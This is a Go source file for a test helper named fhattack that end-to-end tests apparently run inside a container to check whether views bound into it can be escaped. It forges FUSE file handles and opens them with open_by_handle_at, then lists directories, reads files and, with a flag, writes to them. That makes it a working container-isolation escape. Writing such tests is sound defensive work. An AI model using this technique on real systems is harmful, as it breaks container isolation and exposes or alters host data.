// Command fhattack is a test helper that e2e tests build (statically) and
// run inside a container: it tries to leave the views bound into the
// container through file handles, as a process holding
// CAP_DAC_READ_SEARCH can with open_by_handle_at(2).
//
//	fhattack -mount DIR [-write] NAME=NODEID:GEN ...
//
// It learns the handle format of the file system at DIR with
// name_to_handle_at(2) (a plain handle, else an AT_HANDLE_FID one, else
// FUSE's known layout: type 0x81, nodeid high and low 32 bits, generation),
// then forges a handle for each NODEID:GEN and opens it through an fd of
// DIR. An opened directory is listed (and with -write a file is created
// in it), an opened file is read (and with -write overwritten). Each
// attempt is reported as one JSON line on stdout; the exit status is 0
// unless the arguments are bad.
package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// Result is one line of output.
type Result struct {
	Target  string   `json:"target"`
	NodeID  uint64   `json:"nodeid"`
	Gen     uint32   `json:"gen"`
	OpenErr string   `json:"open_err,omitempty"`
	Kind    string   `json:"kind,omitempty"`
	Entries []string `json:"entries,omitempty"`
	Data    string   `json:"data,omitempty"`
	Wrote   bool     `json:"wrote,omitempty"`
	Err     string   `json:"err,omitempty"`
}

// Learned is the first line of output: how the handle format was learned.
type Learned struct {
	How      string `json:"learned"`
	Type     int32  `json:"type"`
	Size     int    `json:"size"`
	PlainErr string `json:"plain_err,omitempty"`
	FIDErr   string `json:"fid_err,omitempty"`
}

const (
	atHandleFID   = 0x200 // AT_HANDLE_FID (Linux 6.5)
	fuseHandleTyp = 0x81  // FUSE_FILEID_INO64_GEN
)

func errName(err error) string {
	var en unix.Errno
	if errors.As(err, &en) {
		if n := unix.ErrnoName(en); n != "" {
			return n
		}
	}
	return err.Error()
}

func main() {
	mount := flag.String("mount", "", "a directory of a view bound into this container")
	write := flag.Bool("write", false, "also try to write through what opens")
	flag.Parse()
	if *mount == "" || flag.NArg() == 0 {
		fmt.Fprintln(os.Stderr, "usage: fhattack -mount DIR [-write] NAME=NODEID:GEN ...")
		os.Exit(2)
	}
	enc := json.NewEncoder(os.Stdout)

	learned := Learned{How: "fuse-layout", Type: fuseHandleTyp, Size: 12}
	fh, _, err := unix.NameToHandleAt(unix.AT_FDCWD, *mount, 0)
	if err != nil {
		learned.PlainErr = errName(err)
		fh, _, err = unix.NameToHandleAt(unix.AT_FDCWD, *mount, atHandleFID)
		if err != nil {
			learned.FIDErr = errName(err)
		} else {
			learned.How = "fid"
		}
	} else {
		learned.How = "plain"
	}
	if err == nil {
		learned.Type, learned.Size = fh.Type(), fh.Size()
	}
	enc.Encode(learned)

	mfd, err := unix.Open(*mount, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Fprintf(os.Stderr, "open %s: %v\n", *mount, err)
		os.Exit(2)
	}
	for _, arg := range flag.Args() {
		name, spec, ok := strings.Cut(arg, "=")
		ns, gs, ok2 := strings.Cut(spec, ":")
		nodeID, err1 := strconv.ParseUint(ns, 10, 64)
		gen, err2 := strconv.ParseUint(gs, 10, 32)
		if !ok || !ok2 || err1 != nil || err2 != nil {
			fmt.Fprintf(os.Stderr, "bad target %q: want NAME=NODEID:GEN\n", arg)
			os.Exit(2)
		}
		enc.Encode(attack(mfd, learned.Type, name, nodeID, uint32(gen), *write))
	}
}

// attack forges one handle and uses what it opens.
func attack(mfd int, typ int32, name string, nodeID uint64, gen uint32, write bool) Result {
	r := Result{Target: name, NodeID: nodeID, Gen: gen}
	b := make([]byte, 12)
	binary.NativeEndian.PutUint32(b[0:], uint32(nodeID>>32))
	binary.NativeEndian.PutUint32(b[4:], uint32(nodeID))
	binary.NativeEndian.PutUint32(b[8:], gen)
	fd, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(typ, b), unix.O_RDONLY|unix.O_CLOEXEC)
	if err != nil {
		r.OpenErr = errName(err)
		return r
	}
	defer unix.Close(fd)
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		r.Err = errName(err)
		return r
	}
	if st.Mode&unix.S_IFMT == unix.S_IFDIR {
		r.Kind = "dir"
		d, err := unix.Dup(fd)
		if err != nil {
			r.Err = errName(err)
			return r
		}
		f := os.NewFile(uintptr(d), name)
		names, err := f.Readdirnames(-1)
		f.Close()
		sort.Strings(names)
		r.Entries = names
		if err != nil {
			r.Err = errName(err)
		}
		if write {
			wfd, err := unix.Openat(fd, "fhattack-was-here", unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC, 0o644)
			if err == nil {
				unix.Close(wfd)
				r.Wrote = true
			} else if r.Err == "" {
				r.Err = "create: " + errName(err)
			}
		}
		return r
	}
	r.Kind = "file"
	buf := make([]byte, 256)
	n, err := unix.Pread(fd, buf, 0)
	if n > 0 {
		r.Data = string(buf[:n])
	}
	if err != nil {
		r.Err = errName(err)
	}
	if write {
		// Reopen the same handle for writing.
		wfd, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(typ, b), unix.O_WRONLY|unix.O_CLOEXEC)
		if err == nil {
			if _, err := unix.Pwrite(wfd, []byte("fhattack-was-here"), 0); err == nil {
				r.Wrote = true
			} else if r.Err == "" {
				r.Err = "write: " + errName(err)
			}
			unix.Close(wfd)
		} else if r.Err == "" {
			r.Err = "open for writing: " + errName(err)
		}
	}
	return r
}
